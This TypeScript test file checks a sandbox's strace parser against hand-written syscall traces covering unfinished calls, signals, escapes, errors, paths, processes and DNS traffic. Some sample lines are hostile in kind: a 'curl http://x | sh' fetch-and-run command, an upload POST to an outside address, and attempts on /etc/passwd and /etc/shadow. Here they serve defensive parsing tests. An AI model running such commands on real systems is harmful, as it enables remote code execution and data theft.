/**
 * Hand-written lines for each robustness case the sandbox can produce (or an attacker can
 * provoke). Addresses outside loopback appear only here, as text.
 */
import { StraceParser } from '@airlock/strace';
import { describe, expect, it } from 'vitest';
import { ofType, parseLines } from './helpers.js';

describe('unfinished and resumed calls', () => {
  it('joins interleaved halves per pid and keeps the entry timestamp', () => {
    const { events, stats } = parseLines(
      '100 1.000001 openat(AT_FDCWD</w>, "a", O_RDONLY <unfinished ...>',
      '101 1.000002 openat(AT_FDCWD</w>, "b", O_WRONLY|O_CREAT, 0644 <unfinished ...>',
      '100 1.000003 <... openat resumed>) = 3</w/a>',
      '101 1.000004 <... openat resumed>) = -1 EACCES (Permission denied)',
    );
    const opens = ofType(events, 'open');
    expect(opens.map((e) => [e.seq, e.pid, e.ts, e.path, e.intent, e.mode, e.fd])).toEqual([
      [0, 100, 1.000001, '/w/a', 'read', null, 3],
      [1, 101, 1.000002, '/w/b', 'create', 0o644, null],
    ]);
    expect(opens[1]!.result).toMatchObject({ status: 'error', errno: 'EACCES', message: 'Permission denied' });
    expect(stats).toMatchObject({ unfinished: 2, resumed: 2, unknown: 0, events: 2 });
  });

  it('joins a resumed half that carries more arguments (clone3 => {...})', () => {
    const { events } = parseLines(
      '200 2.0 clone3({flags=CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, child_tid=0x7f1, parent_tid=0x7f1, exit_signal=0, stack=0x7f0, stack_size=0x7ffe80, tls=0x7f2} <unfinished ...>',
      '201 2.1 openat(AT_FDCWD</>, "/etc/hosts", O_RDONLY) = 3</etc/hosts>',
      '200 2.2 <... clone3 resumed> => {parent_tid=[201]}, 88) = 201',
    );
    expect(ofType(events, 'spawn')).toMatchObject([{ pid: 200, childPid: 201, thread: true, ts: 2.0, seq: 1 }]);
    expect(ofType(events, 'open')).toMatchObject([{ pid: 201, seq: 0, path: '/etc/hosts' }]);
  });

  it('emits a call cut short by the process dying with result unknown, before the exit', () => {
    const { events, stats } = parseLines(
      '300 3.0 connect(5<TCP:[9001]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.9")}, 16 <unfinished ...>',
      '300 3.5 +++ killed by SIGKILL +++',
    );
    expect(events.map((e) => e.type)).toEqual(['connect', 'exit']);
    expect(ofType(events, 'connect')[0]).toMatchObject({
      ts: 3.0,
      fd: 5,
      address: { family: 'AF_INET', address: '203.0.113.9', port: 443 },
      result: { status: 'unknown' },
    });
    expect(ofType(events, 'exit')[0]).toMatchObject({ signal: 'SIGKILL', code: null, source: 'status' });
    expect(stats.interrupted).toBe(1);
  });

  it('flushes calls still unfinished when the input ends', () => {
    const parser = new StraceParser();
    expect(parser.push('400 4.0 execve("/bin/sh", ["sh"], ["A=1"] <unfinished ...>\n')).toEqual([]);
    expect(parser.pendingCalls).toBe(1);
    const events = parser.end();
    expect(ofType(events, 'exec')).toMatchObject([{ path: '/bin/sh', argv: ['sh'], env: ['A=1'], result: { status: 'unknown' } }]);
    expect(parser.pendingCalls).toBe(0);
  });

  it('counts a resumed half without its first half as unknown', () => {
    const { events, stats } = parseLines('500 5.0 <... read resumed>"abc", 3) = 3', '500 5.1 <... openat resumed>) = 3</x>');
    expect(events).toEqual([]);
    expect(stats).toMatchObject({ orphanResumed: 2, unknown: 2 });
  });

  it('hands an exec-ing thread’s pending execve to the leader pid it supersedes', () => {
    const { events, stats } = parseLines(
      '601 6.0 execve("/usr/bin/id", ["id"], ["X=1"] <unfinished ...>',
      '600 6.1 futex(0x7f, FUTEX_WAIT, 0, NULL <unfinished ...>',
      '600 6.2 +++ superseded by execve in pid 601 +++',
      '600 6.3 <... execve resumed>) = 0',
    );
    expect(ofType(events, 'exec')).toMatchObject([{ pid: 600, ts: 6.0, path: '/usr/bin/id', result: { status: 'ok', value: 0 } }]);
    expect(stats).toMatchObject({ unknown: 0, orphanResumed: 0, exits: 0 });
  });

  it('ignores well-formed syscalls that carry no event, including resumed ones', () => {
    const { events, stats } = parseLines(
      '700 7.0 wait4(-1,  <unfinished ...>',
      '700 7.1 <... wait4 resumed>[{WIFEXITED(s) && WEXITSTATUS(s) == 0}], 0, NULL) = 701',
      '700 7.2 restart_syscall(<... resuming interrupted read ...>) = 0',
      '700 7.3 getsockopt(3<TCP:[1]>, SOL_SOCKET, SO_ERROR, [0], [4]) = 0',
    );
    expect(events).toEqual([]);
    expect(stats).toMatchObject({ syscalls: 3, ignored: 3, unknown: 0, resumed: 1 });
  });
});

describe('signals and exits', () => {
  it('decodes signal lines', () => {
    const { events } = parseLines(
      '10 1.0 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED, si_pid=42, si_uid=1000, si_status=0, si_utime=5 /* 0.05 s */, si_stime=0} ---',
      '10 1.1 --- SIGSEGV {si_signo=SIGSEGV, si_code=SEGV_MAPERR, si_addr=NULL} ---',
      '10 1.2 --- stopped by SIGSTOP ---',
      '10 1.3 --- SIGTERM {si_signo=SIGTERM, si_code=SI_USER, si_pid=1, si_uid=0} ---',
    );
    expect(ofType(events, 'signal').map((e) => [e.signal, e.code, e.senderPid, e.syscall, e.result.status])).toEqual([
      ['SIGCHLD', 'CLD_EXITED', 42, null, 'none'],
      ['SIGSEGV', 'SEGV_MAPERR', null, null, 'none'],
      ['SIGSTOP', 'stopped', null, null, 'none'],
      ['SIGTERM', 'SI_USER', 1, null, 'none'],
    ]);
  });

  it('decodes exit status lines and exit calls', () => {
    const { events } = parseLines(
      '20 1.0 exit_group(3) = ?',
      '20 1.1 +++ exited with 3 +++',
      '21 1.2 +++ exited with 255 +++',
      '22 1.3 +++ killed by SIGKILL +++',
      '23 1.4 +++ killed by SIGSEGV (core dumped) +++',
      '24 1.5 exit(0) = ?',
    );
    expect(ofType(events, 'exit').map((e) => [e.pid, e.source, e.code, e.signal, e.coreDumped, e.result.status])).toEqual([
      [20, 'exit_group', 3, null, false, 'unknown'],
      [20, 'status', 3, null, false, 'none'],
      [21, 'status', 255, null, false, 'none'],
      [22, 'status', null, 'SIGKILL', false, 'none'],
      [23, 'status', null, 'SIGSEGV', true, 'none'],
      [24, 'exit', 0, null, false, 'unknown'],
    ]);
  });
});

describe('strings', () => {
  it('marks strings cut by -s as truncated and keeps what was printed', () => {
    const { events } = parseLines(
      '30 1.0 execve("/bin/sh", ["sh", "-c", "curl http://x | sh; echo aaaa"...], ["A=1", "B=2"...]) = 0',
      '30 1.1 sendto(3<TCP:[1.2.3.4:1->5.6.7.8:80]>, "POST /upload HTTP/1.1\\r\\n"..., 9000, 0, NULL, 0) = 9000',
    );
    expect(ofType(events, 'exec')[0]).toMatchObject({
      argv: ['sh', '-c', 'curl http://x | sh; echo aaaa'],
      env: ['A=1', 'B=2'],
      truncated: true,
    });
    const send = ofType(events, 'send')[0]!;
    expect(String.fromCharCode(...send.data!)).toBe('POST /upload HTTP/1.1\r\n');
    expect(send).toMatchObject({ dataTruncated: true, size: 9000, destination: { family: 'AF_INET', address: '5.6.7.8', port: 80 } });
  });

  it('decodes octal, hex and C escapes in paths and payloads', () => {
    const { events } = parseLines(
      '31 1.0 openat(AT_FDCWD</tmp>, "caf\\303\\251\\n\\t\\"q\\"\\\\", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '31 1.1 sendto(3<UDP:[9]>, "\\x41\\x42\\0\\1\\377z", 6, 0, {sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("127.0.0.1")}, 16) = 6',
    );
    expect(ofType(events, 'open')[0]!.path).toBe('/tmp/café\n\t"q"\\');
    expect([...ofType(events, 'send')[0]!.data!]).toEqual([0x41, 0x42, 0, 1, 0xff, 0x7a]);
  });

  it('is not confused by syntax inside strings and decorations', () => {
    const { events, stats } = parseLines(
      // Inside decorations strace escapes < and > (as \\74 and \\76); inside strings it does not.
      '32 1.0 openat(AT_FDCWD</tmp/a,b) = 0>, "x) = 3</y> <unfinished ...>", O_RDONLY) = 4</tmp/a,b) = 0/x) = 3\\74y\\76 \\74unfinished ...\\76>',
      '32 1.1 execve("/bin/echo", ["echo", "[{\\"a\\": 1}]", "--- SIG ---"], []) = 0',
      '32 1.2 openat(5</srv/-\\76x>, "f", O_RDONLY) = 6</srv/-\\76x/f>',
    );
    expect(stats.unknown).toBe(0);
    const [first, third] = ofType(events, 'open');
    expect(first).toMatchObject({
      path: '/tmp/a,b) = 0/x) = 3</y> <unfinished ...>',
      fd: 4,
      resolvedPath: '/tmp/a,b) = 0/x) = 3<y> <unfinished ...>',
    });
    expect(ofType(events, 'exec')[0]!.argv).toEqual(['echo', '[{"a": 1}]', '--- SIG ---']);
    expect(third).toMatchObject({ path: '/srv/->x/f', resolvedPath: '/srv/->x/f' });
  });
});

describe('errors and odd return values', () => {
  it('keeps errno names, restart codes and ? returns', () => {
    const { events } = parseLines(
      '40 1.0 unlink("/etc/passwd") = -1 EACCES (Permission denied)',
      '40 1.1 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.51.100.1")}, 16) = ? ERESTARTSYS (To be restarted if SA_RESTART is set)',
      '40 1.2 connect(3<TCP:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.51.100.1")}, 16) = -1 EINPROGRESS (Operation now in progress)',
    );
    expect(events.map((e) => e.result)).toEqual([
      { status: 'error', errno: 'EACCES', message: 'Permission denied', raw: '-1 EACCES (Permission denied)' },
      {
        status: 'error',
        errno: 'ERESTARTSYS',
        message: 'To be restarted if SA_RESTART is set',
        raw: '? ERESTARTSYS (To be restarted if SA_RESTART is set)',
      },
      { status: 'error', errno: 'EINPROGRESS', message: 'Operation now in progress', raw: '-1 EINPROGRESS (Operation now in progress)' },
    ]);
  });
});

describe('unknown lines', () => {
  it('counts and samples lines it cannot read, and goes on', () => {
    const parser = new StraceParser({ maxUnknownSamples: 3, maxSampleLength: 20 });
    const lines = [
      'strace: Process 123 attached',
      'complete garbage',
      '123 1.0 NOT A SYSCALL',
      '123 1.0 openat(AT_FDCWD, "/x", O_RDONLY',
      '123 1.0 +++ something else +++',
      '123 1.0 (x) = 0',
      // A syscall name with no builder is skipped unparsed, as ignored rather than unknown.
      `123 1.0 ${'z'.repeat(100)}(`,
      '123 1.1 unlink("/ok") = 0',
    ];
    const events = [...parser.push(lines.join('\n')), ...parser.end()];
    expect(ofType(events, 'unlink')).toMatchObject([{ path: '/ok' }]);
    const stats = parser.stats;
    expect(stats.unknown).toBe(6);
    expect(stats.ignored).toBe(1);
    expect(stats.unknownSamples).toEqual(['strace: Process 123 attached'.slice(0, 20) + '…', 'complete garbage', '123 1.0 NOT A SYSCAL…']);
  });

  it('drops overlong lines with a bounded buffer', () => {
    const parser = new StraceParser({ maxLineLength: 50 });
    const events = [
      ...parser.push(`1 1.0 unlink("/${'a'.repeat(200)}`),
      ...parser.push(`${'b'.repeat(200)}") = 0\n1 1.1 unlink("/short") = 0\n`),
      ...parser.end(),
    ];
    expect(ofType(events, 'unlink').map((e) => e.path)).toEqual(['/short']);
    expect(parser.stats).toMatchObject({ overlong: 1, unknown: 0, lines: 1 });
  });

  it('accepts CRLF, [pid N] prefixes and lines without a pid', () => {
    const { events, stats } = parseLines('77 1.5 unlink("/a") = 0\r', '[pid  78] 1.6 unlink("/b") = 0', '1.7 unlink("/c") = 0');
    expect(stats.unknown).toBe(0);
    expect(events.map((e) => [e.pid, e.ts, e.type === 'unlink' && e.path])).toEqual([
      [77, 1.5, '/a'],
      [78, 1.6, '/b'],
      [0, 1.7, '/c'],
    ]);
  });
});

describe('paths and working directories', () => {
  it('resolves non-at calls against the cwd tracked from chdir, fchdir and inheritance', () => {
    const { events } = parseLines(
      '50 1.0 chdir("/home/u/proj") = 0',
      '50 1.1 open("node_modules/x/index.js", O_RDONLY) = 3</home/u/proj/node_modules/x/index.js>',
      '50 1.2 fork() = 51',
      '51 1.3 open("../secret", O_RDONLY) = -1 ENOENT (No such file or directory)',
      '51 1.4 chdir("/nonexistent") = -1 ENOENT (No such file or directory)',
      '51 1.5 mkdir("d", 0755) = 0',
      '50 1.6 fchdir(7</srv/data>) = 0',
      '50 1.7 chdir("sub/./x/..") = 0',
      '50 1.8 creat("out.bin", 0600) = 4</srv/data/sub/out.bin>',
      '52 1.9 unlink("orphan") = 0',
    );
    const paths = events.filter((e) => e.category === 'file').map((e) => `${e.type} ${e.path}`);
    expect(paths).toEqual([
      'chdir /home/u/proj',
      'open /home/u/proj/node_modules/x/index.js',
      'open /home/u/secret',
      'chdir /nonexistent',
      // The failed chdir did not move the child.
      'mkdir /home/u/proj/d',
      'chdir /srv/data',
      'chdir /srv/data/sub',
      'open /srv/data/sub/out.bin',
      // No cwd known for pid 52: the path stays as the program gave it.
      'unlink orphan',
    ]);
    expect(ofType(events, 'open')[2]).toMatchObject({ intent: 'create', flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'], mode: 0o600 });
  });

  it('learns the cwd from AT_FDCWD decorations and resolves execve against it', () => {
    const { events } = parseLines(
      '60 1.0 openat(AT_FDCWD</work/pkg>, "package.json", O_RDONLY) = 3</work/pkg/package.json>',
      '60 1.1 execve("./node_modules/.bin/tool", ["tool"], []) = 0',
      '60 1.2 execveat(9</opt/bin>, "run", ["run", "--x"], NULL, 0) = -1 ENOENT (No such file or directory)',
    );
    expect(ofType(events, 'exec').map((e) => [e.path, e.cwd, e.env])).toEqual([
      ['/work/pkg/node_modules/.bin/tool', '/work/pkg', []],
      ['/opt/bin/run', '/work/pkg', null],
    ]);
  });

  it('covers the remaining file syscalls', () => {
    const { events } = parseLines(
      '70 1.0 openat2(AT_FDCWD</r>, "f", {flags=O_RDWR|O_CREAT|O_CLOEXEC, mode=0640, resolve=RESOLVE_NO_SYMLINKS}, 24) = 3</r/f>',
      '70 1.1 unlinkat(AT_FDCWD</r>, "dir", AT_REMOVEDIR) = 0',
      '70 1.2 renameat(AT_FDCWD</r>, "a", 4</s>, "b") = 0',
      '70 1.3 rename("/r/x", "/r/y") = 0',
      '70 1.4 symlink("/etc/shadow", "/r/link") = 0',
      '70 1.5 link("/r/y", "/r/z") = -1 EPERM (Operation not permitted)',
      '70 1.6 fchmod(3</r/f>, 04755) = 0',
      '70 1.7 chmod("/r/f", 0777) = 0',
      '70 1.8 fchown(3</r/f>, 0, -1) = -1 EPERM (Operation not permitted)',
      '70 1.9 lchown("/r/link", 1000, 1000) = 0',
      '70 2.0 mkdirat(AT_FDCWD</r>, "m", 0700) = 0',
      '70 2.1 rmdir("/r/m") = 0',
      '70 2.2 truncate("/r/f", 0) = 0',
      '70 2.3 getdents64(5, 0x55d0, 32768) = 120',
      '70 2.4 openat(AT_FDCWD</r>, "log", O_WRONLY|O_APPEND) = 3</r/log>',
      '70 2.5 openat(AT_FDCWD</r>, "data", O_RDWR|O_TRUNC) = 3</r/data>',
    );
    const summary = events.map((e) => {
      switch (e.type) {
        case 'open':
          return `open ${e.path} ${e.intent} ${e.mode?.toString(8) ?? '-'}`;
        case 'rename':
          return `rename ${e.path} ${e.newPath}`;
        case 'link':
          return `link ${e.path} ${e.target} ${e.symbolic}`;
        case 'chmod':
          return `chmod ${e.path} ${e.mode?.toString(8)}`;
        case 'chown':
          return `chown ${e.path} ${e.uid} ${e.gid}`;
        case 'mkdir':
          return `mkdir ${e.path} ${e.mode?.toString(8)}`;
        case 'truncate':
          return `truncate ${e.path} ${e.length}`;
        case 'readdir':
          return `readdir ${e.path} ${e.fd} ${e.entryCount}`;
        default:
          return `${e.type} ${'path' in e ? e.path : ''}`;
      }
    });
    expect(summary).toEqual([
      'open /r/f create 640',
      'rmdir /r/dir',
      'rename /r/a /s/b',
      'rename /r/x /r/y',
      'link /r/link /etc/shadow true',
      'link /r/z /r/y false',
      'chmod /r/f 4755',
      'chmod /r/f 777',
      'chown /r/f 0 -1',
      'chown /r/link 1000 1000',
      'mkdir /r/m 700',
      'rmdir /r/m',
      'truncate /r/f 0',
      'readdir fd:5 5 null',
      'open /r/log write -',
      'open /r/data truncate -',
    ]);
  });
});

describe('processes', () => {
  it('decodes clone, fork, vfork, kill, tkill and tgkill', () => {
    const { events } = parseLines(
      '80 1.0 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = 81',
      '80 1.1 vfork() = 82',
      '80 1.2 fork() = -1 EAGAIN (Resource temporarily unavailable)',
      '80 1.3 kill(-81, SIGTERM) = 0',
      '80 1.4 tkill(83, SIGSTOP) = 0',
      '80 1.5 tgkill(80, 84, SIGUSR1) = -1 ESRCH (No such process)',
      '80 1.6 kill(1, 0) = -1 EPERM (Operation not permitted)',
    );
    expect(ofType(events, 'spawn').map((e) => [e.syscall, e.childPid, e.thread, e.flags.length])).toEqual([
      ['clone', 81, false, 3],
      ['vfork', 82, false, 0],
      ['fork', null, false, 0],
    ]);
    expect(ofType(events, 'kill').map((e) => [e.syscall, e.targetPid, e.targetTid, e.signal, e.result.status])).toEqual([
      ['kill', -81, null, 'SIGTERM', 'ok'],
      ['tkill', 83, 83, 'SIGSTOP', 'ok'],
      ['tgkill', 80, 84, 'SIGUSR1', 'error'],
      ['kill', 1, null, '0', 'error'],
    ]);
  });

  it('reads env counts when strace elides the environment (no -v)', () => {
    const { events } = parseLines('90 1.0 execve("/bin/true", ["true"], 0x7ffd2a1c /* 38 vars */) = 0');
    expect(ofType(events, 'exec')[0]).toMatchObject({ env: null, envCount: 38, argv: ['true'] });
  });

  it('decodes privilege changes', () => {
    const { events } = parseLines(
      '95 1.0 setreuid(-1, 0) = -1 EPERM (Operation not permitted)',
      '95 1.1 setresgid(-1, -1, 0) = 0',
      '95 1.2 ptrace(PTRACE_PEEKDATA, 1, 0x7ffc, [0x1]) = 0',
    );
    expect(
      events.map((e) => (e.type === 'setid' ? [e.syscall, e.idKind, e.ids] : e.type === 'ptrace' ? [e.request, e.targetPid] : [])),
    ).toEqual([
      ['setreuid', 'uid', [-1, 0]],
      ['setresgid', 'gid', [-1, -1, 0]],
      ['PTRACE_PEEKDATA', 1],
    ]);
  });
});

describe('network edge cases', () => {
  const query = '"\\253\\315\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\6github\\3com\\0\\0\\1\\0\\1"';
  const queryAAAA = '"\\253\\316\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3www\\6github\\3com\\0\\0\\34\\0\\1"';

  it('splits glibc’s sendmmsg A+AAAA pair into two sends and two DNS questions', () => {
    const { events } = parseLines(
      `3 1.0 sendmmsg(5<UDP:[10.0.0.2:41000->10.0.0.1:53]>, [{msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base=${query}, iov_len=31}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=31}, {msg_hdr={msg_name=NULL, msg_namelen=0, msg_iov=[{iov_base=${queryAAAA}, iov_len=31}], msg_iovlen=1, msg_controllen=0, msg_flags=0}, msg_len=31}], 2, MSG_NOSIGNAL) = 2`,
    );
    expect(events.map((e) => e.type)).toEqual(['send', 'dns', 'send', 'dns']);
    expect(ofType(events, 'dns').map((e) => [e.id, e.qname, e.qtype, e.server])).toEqual([
      [0xabcd, 'www.github.com', 'A', { family: 'AF_INET', address: '10.0.0.1', port: 53 }],
      [0xabce, 'www.github.com', 'AAAA', { family: 'AF_INET', address: '10.0.0.1', port: 53 }],
    ]);
    expect(ofType(events, 'send').map((e) => e.size)).toEqual([31, 31]);
  });

  it('decodes DNS over TCP (length-prefixed) and over IPv6, and ignores non-DNS bytes to port 53', () => {
    const { events } = parseLines(
      `4 1.0 sendto(6<TCP:[10.0.0.2:41000->10.0.0.1:53]>, "\\0\\37${query.slice(1)}, 33, 0, NULL, 0) = 33`,
      `4 1.1 sendto(7<UDPv6:[1]>, ${query}, 31, 0, {sa_family=AF_INET6, sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "2001:db8::53", &sin6_addr), sin6_scope_id=0}, 28) = 31`,
      '4 1.2 sendto(8<UDP:[2]>, "hello, not dns at all", 21, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.53")}, 16) = 21',
    );
    expect(ofType(events, 'dns').map((e) => [e.transport, e.qname, e.server])).toEqual([
      ['tcp', 'www.github.com', { family: 'AF_INET', address: '10.0.0.1', port: 53 }],
      ['udp', 'www.github.com', { family: 'AF_INET6', address: '2001:db8::53', port: 53 }],
    ]);
    expect(ofType(events, 'send')).toHaveLength(3);
  });

  it('keeps unusual address families raw and decodes unnamed unix sockets', () => {
    const { events } = parseLines(
      '5 1.0 bind(3<NETLINK:[1]>, {sa_family=AF_NETLINK, nl_pid=0, nl_groups=00000000}, 12) = 0',
      '5 1.1 connect(4<UNIX-STREAM:[2]>, {sa_family=AF_UNIX}, 2) = -1 EINVAL (Invalid argument)',
      '5 1.2 connect(5<UDP:[3]>, {sa_family=AF_UNSPEC, sa_data="\\0\\0\\0\\0"}, 16) = 0',
      '5 1.3 connect(6<TCPv6:[4]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "::ffff:203.0.113.5", &sin6_addr), sin6_scope_id=0}, 28) = 0',
    );
    expect(events.map((e) => ('address' in e ? e.address : undefined))).toEqual([
      { family: 'other', name: 'AF_NETLINK', raw: '{sa_family=AF_NETLINK, nl_pid=0, nl_groups=00000000}' },
      { family: 'AF_UNIX', path: '', abstract: false },
      { family: 'other', name: 'AF_UNSPEC', raw: '{sa_family=AF_UNSPEC, sa_data="\\0\\0\\0\\0"}' },
      { family: 'AF_INET6', address: '::ffff:203.0.113.5', port: 443 },
    ]);
  });

  it('limits kept payload bytes to maxDataBytes', () => {
    const parser = new StraceParser({ maxDataBytes: 4 });
    const events = [...parser.push('6 1.0 sendto(3<TCP:[1]>, "abcdefgh", 8, 0, NULL, 0) = 8\n'), ...parser.end()];
    expect(ofType(events, 'send')[0]).toMatchObject({ data: new Uint8Array([97, 98, 99, 100]), dataTruncated: true, size: 8 });
    expect(ofType(events, 'send')[0]!.data!.buffer.byteLength).toBe(4);
  });
});
